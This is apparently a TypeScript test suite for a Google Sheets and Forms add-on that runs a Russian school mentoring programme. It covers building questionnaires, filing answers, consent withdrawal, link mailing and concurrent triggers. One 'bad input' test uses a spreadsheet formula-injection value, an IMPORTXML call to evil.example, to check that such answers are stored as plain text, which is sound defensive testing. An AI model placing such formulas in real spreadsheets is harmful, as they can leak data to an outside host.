import { WITHDRAWAL_CHOICE } from '../../src/domain/questionnaires';
import { byTitle, defs, menteeAnswers, mentorAnswers } from './answers';
import { DEMO_USERS, type Workspace } from '../../workspace/workspace';
import { columnIndex, columnOf, records, ROADMAP, setUpWorkspace } from './workspace';
import { api } from './api';

const MENTEES = 'Наставляемые';
const MENTORS = 'Наставники';

async function withForms(): Promise<Workspace> {
  const ws = await setUpWorkspace();
  ws.run('setupQuestionnaires');
  ws.resetCalls();
  return ws;
}

const bank = (ws: Workspace, sheet: string) => records(ws, sheet);
/** Whether the answers left «Сводка» marked for a refresh (sheets/summaryFreshness.ts). */
const summaryStale = (ws: Workspace) =>
  ws.values('Служебные данные')!.some((r) => r[0] === 'summaryStale' && r[1] === '1');
/** The response sheet of a questionnaire, by its title. */
const responseSheet = (ws: Workspace, title: string) => ws.forms().find((f) => f.title === title)!.responseSheet!;

describe('questionnaires are built by code', () => {
  test('three questionnaires (and the year’s four forms), in Russian, as defined; links in «Настройки»', async () => {
    const ws = await withForms();
    const forms = ws.forms();
    expect(forms.map((f) => f.title)).toEqual([
      'Анкета наставляемого',
      'Анкета наставника',
      'Отзыв согласия',
      'Отчёт о встрече наставнической пары',
      'Мониторинг: анкета наставляемого',
      'Мониторинг: анкета наставника',
      'Методическая копилка: предложить практику',
      'Промежуточная встреча-опрос: как идёт работа пары',
    ]);
    const mentee = forms[0];
    expect(mentee.items.map((i) => i.title)).toEqual(defs.mentee.questions.map((q) => q.title));
    const requests = mentee.items.find(
      (i) => i.title === defs.mentee.questions.find((q) => q.key === 'requests')!.title,
    )!;
    expect(requests.choices).toContain('Работа с родителями (законными представителями)');
    const settings = Object.fromEntries(ws.values('Настройки')!.map(([k, v]) => [k, v]));
    expect(settings['Анкета наставляемого: ссылка']).toBe(mentee.url);
  });

  test('running it again updates in place: no duplicate forms, questions or triggers', async () => {
    const ws = await withForms();
    const before = ws.forms();
    ws.run('setupQuestionnaires');
    ws.run('setupQuestionnaires');
    expect(ws.forms()).toEqual(before);
    expect(ws.triggers().filter((t) => t.eventType === 'ON_FORM_SUBMIT')).toHaveLength(1);
    expect(ws.sheetNames().filter((n) => n.startsWith('Ответы') && !n.startsWith('Ответы на форму'))).toHaveLength(8);
  });

  test('a list edited in «Справочники» reaches the form on «Обновить анкеты»', async () => {
    const ws = await withForms();
    const lists = ws.values('Справочники')!;
    const col = columnIndex(ws, 'Справочники', 'Компетенции (запросы)');
    const row = lists.findIndex((r) => r[col] === '') + 1;
    ws.edit(
      'Справочники',
      `${columnOf(ws, 'Справочники', 'Компетенции (запросы)')}${row}`,
      'Наставничество в цифровой среде',
    );
    ws.run('setupQuestionnaires');
    const requests = ws
      .forms()[0]
      .items.find((i) => i.type === 'CHECKBOX' && i.choices.includes('Наставничество в цифровой среде'));
    expect(requests).toBeDefined();
  });
});

describe('several staff accounts, and publishing', () => {
  const OWNER = DEMO_USERS.methodologist;
  const STAFF = DEMO_USERS.staff;
  const lastAlert = (ws: Workspace) => ws.ui.dialogs[ws.ui.dialogs.length - 1];

  test('a colleague who cannot open the forms is told who made them; nothing is re-created or overwritten', async () => {
    const ws = await withForms();
    const before = ws.forms();
    const settings = ws.values('Настройки');
    ws.setUser(STAFF);
    ws.run('menuSetupQuestionnaires');
    expect(lastAlert(ws)).toMatchObject({
      kind: 'alert',
      message: expect.stringContaining(
        `Анкеты, папку документов на Google Диске, обработку ответов и напоминания в этой таблице ведёт учётная запись ${OWNER}. Выполнить «Создать/обновить анкеты» может только она`,
      ),
    });
    expect(lastAlert(ws)).toMatchObject({ message: expect.stringContaining(`ваша учётная запись (${STAFF})`) });
    expect(lastAlert(ws)).toMatchObject({ message: expect.stringContaining('Ничего не создано заново') });
    expect(ws.forms()).toEqual(before);
    expect(ws.values('Настройки')).toEqual(settings);
    // Answers keep reaching the banks.
    ws.setUser(OWNER);
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    expect(bank(ws, MENTEES)).toHaveLength(1);
  });

  test('even with the forms shared, a colleague does not rebuild them or add a second form-submit trigger', async () => {
    const ws = await withForms();
    for (const f of ws.forms()) ws.formApp().openById(f.id).addEditor(STAFF);
    const before = ws.forms();
    const triggers = ws.triggers();
    ws.setUser(STAFF);
    expect(() => ws.run('setupQuestionnaires')).toThrow(`ведёт учётная запись ${OWNER}`);
    expect(ws.forms()).toEqual(before);
    expect(ws.triggers()).toEqual(triggers);
    expect(ws.triggers().some((t) => t.user === STAFF)).toBe(false);
  });

  test('a form its creator deleted is made anew, and staff are told where the old answers stayed', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
    const oldSheet = responseSheet(ws, 'Анкета наставника');
    const oldId = ws.findForm('Анкета наставника').id;
    ws.deleteForm(oldId);
    const result = api(ws, 'setupQuestionnaires');
    const mentor = ws.forms().find((f) => f.title === 'Анкета наставника')!;
    expect(mentor.id).not.toBe(oldId);
    expect(mentor.published).toBe(true);
    expect(result.message).toContain(
      `Анкета «Анкета наставника» была удалена из Google Диска: создана новая, ссылка на неё обновлена. Ответы на прежнюю анкету остались на листе «${oldSheet}».`,
    );
    expect(ws.values('Журнал')!.flat().join(' ')).toContain('была удалена из Google Диска');
    expect(ws.values(oldSheet)).toHaveLength(2);
    expect(bank(ws, MENTORS)).toHaveLength(1);
    // Answers to the new form are filed.
    ws.submitForm(mentor.id, mentorAnswers({ fullName: 'Новая Анна' }), { email: 'novaya@school2.example' });
    expect(bank(ws, MENTORS)).toHaveLength(2);
  });

  test('forms made after 30 June 2026 are published; one unpublished by hand is published again on update', async () => {
    const ws = await withForms();
    expect(ws.forms().every((f) => f.published)).toBe(true);
    const id = ws.findForm('Анкета наставляемого').id;
    ws.formApp().openById(id).setPublished(false);
    expect(() => ws.submitForm(id, menteeAnswers(), { email: 'petrova@school2.example' })).toThrow('не опубликована');
    const result = api(ws, 'setupQuestionnaires');
    expect(result.message).toContain(
      'Анкета «Анкета наставляемого» была не опубликована и теперь снова принимает ответы.',
    );
    expect(ws.forms().every((f) => f.published)).toBe(true);
    ws.submitForm(id, menteeAnswers(), { email: 'petrova@school2.example' });
    expect(bank(ws, MENTEES)).toHaveLength(1);
  });
});

describe('answers land in the banks', () => {
  test('a mentee answer becomes one clean record; stage 2 starts on the roadmap; «Сводка» counts it', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: '  Petrova@School2.example ' });
    const rows = bank(ws, MENTEES);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      ID: 'НС-0001',
      Email: 'petrova@school2.example',
      ФИО: 'Петрова Анна Сергеевна',
      'Стаж, лет': '2',
      Запросы: 'Оценивание образовательных результатов; Работа с родителями (законными представителями)',
      Статус: 'новый',
      'Согласие на обработку ПДн': '25.11.2026',
    });
    expect(records(ws, ROADMAP).find((r) => r['№'] === '2.1')!['Статус']).toBe('В работе');
    // «Сводка» is marked stale by the answer and right once someone opens the file (issue 18: not per answer).
    expect(summaryStale(ws)).toBe(true);
    ws.open();
    const summary = ws.values('Сводка')!;
    expect(summary.find((r) => r[1] === 'Наставляемые: ответов')!.slice(2, 5)).toEqual(['1', 'в банке', '1']);
  });

  test('a resubmission updates the same row and notes it in the history', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    ws.advance(60 * 60 * 1000);
    ws.submitForm('Анкета наставляемого', menteeAnswers({ mode: 'Дистанционно' }), {
      email: 'PETROVA@school2.example',
    });
    const rows = bank(ws, MENTEES);
    expect(rows).toHaveLength(1);
    expect(rows[0]['Формат']).toBe('Дистанционно');
    expect(rows[0]['История']).toMatch(/анкета обновлена \(изменены: формат\)/);
  });

  test('a mentor answer lands in «Наставники» with capacity and the consent to the duties', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
    expect(bank(ws, MENTORS)[0]).toMatchObject({
      ID: 'НТ-0001',
      'Наставляемых, не более': '2',
      'Согласие на доп. обязанности': 'Да',
    });
    expect(records(ws, ROADMAP).find((r) => r['№'] === '3.1')!['Статус']).toBe('В работе');
  });

  test('the same response processed twice, and 200 interleaved ones, lose and duplicate nothing', async () => {
    const ws = await withForms();
    for (let i = 0; i < 200; i++) {
      ws.submitForm('Анкета наставляемого', menteeAnswers({ fullName: `Учитель ${i}` }), {
        email: `t${i % 150}@school2.example`,
        deferTriggers: true,
      });
      ws.advance(1000);
    }
    ws.flushFormTriggers({ order: 'shuffle', duplicate: true });
    const rows = bank(ws, MENTEES);
    expect(rows).toHaveLength(150);
    expect(new Set(rows.map((r) => r.Email)).size).toBe(150);
    // The last answer of each person wins, whatever order the triggers ran in.
    expect(rows.find((r) => r.Email === 't10@school2.example')!['ФИО']).toBe('Учитель 160');
  });
});

describe('bad input', () => {
  test('formula-looking answers are stored as text; long answers are cut with a note', async () => {
    const ws = await withForms();
    ws.submitForm(
      'Анкета наставляемого',
      menteeAnswers({ fullName: '=IMPORTXML("http://evil.example","//a")', note: 'x'.repeat(3000) }),
      { email: 'petrova@school2.example' },
    );
    const row = bank(ws, MENTEES)[0];
    expect(row['ФИО']).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(row['Комментарий'].length).toBeLessThanOrEqual(2000);
    expect(row['Замечания']).toMatch(/Комментарий|сокращ|обрез/i);
    const sheet = ws.model.sheets.find((s) => s.name === MENTEES)!;
    expect(sheet.rows.flat().some((cell) => cell?.formula)).toBe(false);
  });

  test('an answer that starts with an apostrophe keeps it, in the bank and after a replay', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers({ fullName: "'Иванов Иван Иванович", note: "''Цитата'" }), {
      email: 'ivanov@school2.example',
    });
    const expected = { ФИО: "'Иванов Иван Иванович", Комментарий: "''Цитата'" };
    expect(bank(ws, MENTEES)[0]).toMatchObject(expected);
    ws.run('menuReplayResponses');
    expect(bank(ws, MENTEES)).toHaveLength(1);
    expect(bank(ws, MENTEES)[0]).toMatchObject(expected);
  });

  test('a name made only of invisible characters is not filed, and «Журнал» says which row and why', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers({ fullName: '\u200B\u200C\u200D\u2060\uFEFF\u00AD\u00A0' }), {
      email: 'ghost@school2.example',
    });
    expect(bank(ws, MENTEES)).toHaveLength(0);
    const log = ws
      .values('Журнал')!
      .map((r) => r.join(' '))
      .join('\n');
    expect(log).toContain(
      `ответ в строке 2 листа «${responseSheet(ws, 'Анкета наставляемого')}» не учтён — Нет ответа на обязательный вопрос «Фамилия, имя, отчество»: ответ состоит только из пробелов и невидимых символов.`,
    );
    expect(log).not.toMatch(/ghost@/);
  });

  test('an address that does not look like one is kept and flagged, not dropped', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    const sheetName = responseSheet(ws, 'Анкета наставляемого');
    // Staff paste an answer from a paper questionnaire, with the address as it was written.
    const [, answer] = ws.values(sheetName)!;
    const copy = answer.map((v, i) => (i === 0 ? '24.11.2026 09:00:00' : i === 1 ? 'ivanova(at)school2' : v));
    ws.edit(sheetName, 'A3', [copy]);
    ws.run('menuReplayResponses');
    const row = bank(ws, MENTEES).find((r) => r.Email === 'ivanova(at)school2')!;
    expect(row['Замечания']).toMatch(/выглядит неверно/);
  });

  test('a question staff renamed in the form is still mapped (by item id), its answers still filed', async () => {
    const ws = await withForms();
    const form = ws.forms()[0];
    const nameItem = form.items.find((i) => i.title === 'Фамилия, имя, отчество')!;
    ws.formApp().openById(form.id).getItemById(nameItem.id)!.setTitle('ФИО полностью');
    const answers = menteeAnswers();
    answers['ФИО полностью'] = answers['Фамилия, имя, отчество'];
    delete answers['Фамилия, имя, отчество'];
    ws.submitForm('Анкета наставляемого', answers, { email: 'petrova@school2.example' });
    expect(bank(ws, MENTEES)[0]['ФИО']).toBe('Петрова Анна Сергеевна');
  });

  test('staff moving columns in the response sheet does not break the handler', async () => {
    const ws = await withForms();
    const sheetName = responseSheet(ws, 'Анкета наставляемого');
    const values = ws.values(sheetName)!;
    // Swap the first two question columns (C and D), header included.
    ws.edit(sheetName, 'C1:D1', [[values[0][3], values[0][2]]]);
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    expect(bank(ws, MENTEES)[0]).toMatchObject({ ФИО: 'Петрова Анна Сергеевна', Должность: 'Учитель' });
  });

  test('a question missing from the response sheet is a clear error in «Журнал», and nothing is filed', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    const before = ws.values(MENTEES);
    const sheetName = responseSheet(ws, 'Анкета наставляемого');
    // Staff delete the column of a required question from the response sheet, then replay.
    ws.spreadsheet().getActiveSpreadsheet().getSheetByName(sheetName)!.deleteColumn(3);
    ws.run('menuReplayResponses');
    expect(ws.values(MENTEES)).toEqual(before);
    const log = ws
      .values('Журнал')!
      .map((r) => r.join(' '))
      .join('\n');
    expect(log).toMatch(/не найдены вопросы: Фамилия, имя, отчество/);
    expect(log).not.toMatch(/Петрова/);
    expect(ws.ui.dialogs[ws.ui.dialogs.length - 1]).toMatchObject({
      kind: 'alert',
      message: expect.stringMatching(/Проблемы/),
    });
  });
});

describe('consent', () => {
  test("withdrawal removes the person's data from the banks and the response sheets", async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    ws.submitForm('Анкета наставника', mentorAnswers({ fullName: 'Петрова Анна Сергеевна' }), {
      email: 'petrova@school2.example',
    });
    ws.submitForm('Отзыв согласия', byTitle(defs.withdrawal, { confirm: [WITHDRAWAL_CHOICE] }), {
      email: 'petrova@school2.example',
    });
    const everything = ws
      .sheetNames()
      .flatMap((name) => ws.values(name)!)
      .flat()
      .join('\n');
    expect(everything).not.toMatch(/petrova@school2\.example|Петрова Анна/);
    expect(bank(ws, MENTEES)[0]).toMatchObject({ ID: 'НС-0001', ФИО: 'Отозвано согласие', Статус: 'отозвано' });
    expect(ws.values('Журнал')!.flat().join(' ')).toMatch(/согласие отозвано/);
  });

  test('«Обработать ответы заново» rebuilds a damaged bank and removes answers without consent', async () => {
    const ws = await withForms();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
    const sheetName = responseSheet(ws, 'Анкета наставляемого');
    // An answer without consent pasted in from an old sheet by staff.
    const header = ws.values(sheetName)![0];
    const pasted = header.map((h, i) =>
      i === 0
        ? '20.11.2026 10:00:00'
        : i === 1
          ? 'old@school2.example'
          : h === 'Фамилия, имя, отчество'
            ? 'Старый Ответ'
            : '',
    );
    ws.edit(sheetName, `A${ws.values(sheetName)!.length + 1}`, [pasted]);
    ws.spreadsheet()
      .getActiveSpreadsheet()
      .deleteSheet(ws.spreadsheet().getActiveSpreadsheet().getSheetByName(MENTEES)!);

    ws.run('menuReplayResponses');
    expect(bank(ws, MENTEES).map((r) => r.Email)).toEqual(['petrova@school2.example']);
    expect(bank(ws, MENTORS)).toHaveLength(1);
    expect(ws.values(sheetName)!.flat().join(' ')).not.toMatch(/Старый Ответ|old@school2/);
    // Again: nothing changes.
    const before = ws.values(MENTEES);
    ws.run('menuReplayResponses');
    expect(ws.values(MENTEES)).toEqual(before);
  });
});

describe('links', () => {
  function listStaff(ws: Workspace, addresses: string) {
    const settings = ws.values('Настройки')!;
    const row = settings.findIndex((r) => r[0] === 'Адреса для рассылки ссылок') + 1 || settings.length + 1;
    ws.edit('Настройки', `A${row}:B${row}`, [['Адреса для рассылки ссылок', addresses]]);
  }

  test('«Разослать ссылки»: one letter per person, nobody sees the others; without a list it says what to do', async () => {
    const ws = await withForms();
    expect(() => ws.run('sendFormLinks')).toThrow('Укажите адреса для рассылки');
    listStaff(ws, 'zavuch@school2.example, uchitel@school2.example; Zavuch@school2.example');
    const result = api(ws, 'sendFormLinks');
    const mail = ws.mail();
    expect(mail.map((m) => [m.to, m.cc, m.bcc])).toEqual([
      [['zavuch@school2.example'], [], []],
      [['uchitel@school2.example'], [], []],
    ]);
    expect(mail[0].body).toContain(ws.forms()[0].url);
    expect(result).toEqual({ sent: 2, message: 'Ссылки отправлены: 2 адресатам, каждому отдельным письмом.' });
  });

  test('past the daily quota the rest is named in the message and counted in «Журнал», never dropped silently', async () => {
    const ws = await withForms();
    const addresses = Array.from({ length: 103 }, (_, i) => `t${i}@school2.example`);
    listStaff(ws, addresses.join(', '));
    const result = api(ws, 'sendFormLinks');
    // A consumer account: 100 recipients a day.
    expect(result.sent).toBe(100);
    expect(ws.mail()).toHaveLength(100);
    expect(ws.mail().every((m) => m.to.length === 1)).toBe(true);
    expect(result.message).toContain(
      'Не отправлено 3 — дневная квота писем исчерпана: t100@school2.example, t101@school2.example, t102@school2.example.',
    );
    const log = ws
      .values('Журнал')!
      .map((r) => r.join(' '))
      .join('\n');
    expect(log).toMatch(/Отправлено писем: 100 из 103\. Не отправлено: 3 \(дневная квота писем исчерпана\)\./);
    expect(log).not.toMatch(/t10[0-2]@/);
  });
});

describe('a burst of answers and a busy lock', () => {
  test('200 answers whose triggers start at the same instant (each fired twice): every one is in its bank once, no replay', async () => {
    const ws = await withForms();
    for (let i = 0; i < 200; i++) {
      ws.submitForm('Анкета наставляемого', menteeAnswers({ fullName: `Учитель ${i}` }), {
        email: `t${i}@school2.example`,
        deferTriggers: true,
      });
    }
    const runs = ws.flushFormTriggers({ simultaneous: true, order: 'shuffle', seed: 3, duplicate: true });
    expect(runs).toHaveLength(400);
    expect(runs.filter((r) => !r.ok)).toEqual([]);
    const rows = bank(ws, MENTEES);
    expect(rows).toHaveLength(200);
    expect(new Set(rows.map((r) => r.Email))).toEqual(
      new Set(Array.from({ length: 200 }, (_, i) => `t${i}@school2.example`)),
    );
    expect(rows.find((r) => r.Email === 't42@school2.example')!['ФИО']).toBe('Учитель 42');
    // «Сводка» is marked stale by the answers and right once someone opens the file (issue 18: not per answer).
    expect(summaryStale(ws)).toBe(true);
    ws.open();
    const summary = ws.values('Сводка')!;
    expect(summary.find((r) => r[1] === 'Наставляемые: ответов')!.slice(2, 5)).toEqual(['200', 'в банке', '200']);
    // A repeated firing of a filed answer changes nothing.
    const before = [ws.values(MENTEES), ws.values('Журнал'), ws.values('Сводка')];
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example', deferTriggers: true });
    ws.flushFormTriggers({ duplicate: true, simultaneous: true });
    expect(ws.values(MENTEES)).toEqual(before[0]);
    expect(bank(ws, MENTORS)).toHaveLength(1);
    expect(ws.values('Журнал')!.filter((r) => r.join(' ').includes('Анкета наставника'))).toHaveLength(1);
  });

  test('an answer whose trigger cannot get the lock in time is filed by the next run that holds it', async () => {
    const ws = await withForms();
    // Another execution holds the document lock (a long run of the add-on) while an answer arrives.
    const key = `document:${ws.model.id}`;
    ws.locks.holders.set(key, -1);
    const first = ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    expect(first.triggerRuns[0].ok).toBe(true);
    expect(ws.values(MENTEES)!.length).toBe(1);
    expect(ws.logs.entries.some((e) => e.level === 'warn' && /left for the next run/.test(e.message))).toBe(true);
    ws.locks.holders.delete(key);
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
    expect(bank(ws, MENTEES).map((r) => r.Email)).toEqual(['petrova@school2.example']);
    expect(bank(ws, MENTORS).map((r) => r.Email)).toEqual(['sokolov@school2.example']);
    expect(records(ws, ROADMAP).find((r) => r['№'] === '2.1')!['Статус']).toBe('В работе');
    // «Сводка» is marked stale by the answer and right once someone opens the file (issue 18: not per answer).
    expect(summaryStale(ws)).toBe(true);
    ws.open();
    const summary = ws.values('Сводка')!;
    expect(summary.find((r) => r[1] === 'Наставляемые: ответов')!.slice(2, 5)).toEqual(['1', 'в банке', '1']);
  });
});

describe('service calls', () => {
  async function callsPerSubmission(people: number): Promise<number> {
    const ws = await withForms();
    for (let i = 0; i < people; i++) {
      ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: `t${i}@school2.example` });
    }
    ws.resetCalls();
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'new@school2.example' });
    return ws.calls().total;
  }

  test('a submission costs the same number of calls with 10 or 100 people in the bank', async () => {
    expect(await callsPerSubmission(100)).toBe(await callsPerSubmission(10));
  });
});

describe('response sheets say which form they hold', () => {
  test('each form’s response sheet is named after it, and answers are still filed (found by id)', async () => {
    const ws = await withForms();
    expect(ws.sheetNames().filter((n) => n.startsWith('Ответы на форму'))).toEqual([]);
    expect(ws.forms().map((f) => f.responseSheet)).toEqual([
      'Ответы — анкета наставляемого',
      'Ответы — анкета наставника',
      'Ответы — отзыв согласия',
      'Ответы — отчёты о встречах',
      'Ответы мониторинга наставляемых',
      'Ответы мониторинга наставников',
      'Ответы — методическая копилка',
      'Ответы — промежуточный опрос',
    ]);
    // Excel's rules for a sheet name, so that the .xlsx download keeps them.
    for (const name of ws.sheetNames()) expect(name).toMatch(/^[^:\\/?*[\]]{1,31}$/);
    ws.submitForm('Анкета наставника', mentorAnswers(), { email: 'sokolov@school2.example' });
    expect(bank(ws, MENTORS)).toHaveLength(1);
    expect(ws.values('Ответы — анкета наставника')).toHaveLength(2);
  });

  test('re-setup renames sheets that still have Google’s name; a name staff chose is kept', async () => {
    const ws = await withForms();
    // As an earlier version left them: Google's names.
    const book = ws.spreadsheet().getActiveSpreadsheet();
    book.getSheetByName('Ответы — анкета наставляемого')!.setName('Ответы на форму (1)');
    book.getSheetByName('Ответы — анкета наставника')!.setName('Ответы на форму (2)');
    book.getSheetByName('Ответы — отчёты о встречах')!.setName('Отчёты наставников');
    ws.run('setupQuestionnaires');
    expect(responseSheet(ws, 'Анкета наставляемого')).toBe('Ответы — анкета наставляемого');
    expect(responseSheet(ws, 'Анкета наставника')).toBe('Ответы — анкета наставника');
    expect(responseSheet(ws, 'Отчёт о встрече наставнической пары')).toBe('Отчёты наставников');
    ws.submitForm('Анкета наставляемого', menteeAnswers(), { email: 'petrova@school2.example' });
    expect(bank(ws, MENTEES)).toHaveLength(1);
  });

  test('a form made anew gets a name of its own beside the old answers’ sheet', async () => {
    const ws = await withForms();
    ws.deleteForm(ws.findForm('Анкета наставника').id);
    ws.run('setupQuestionnaires');
    expect(ws.sheetNames()).toContain('Ответы — анкета наставника');
    expect(responseSheet(ws, 'Анкета наставника')).toBe('Ответы — анкета наставника (2)');
  });
});
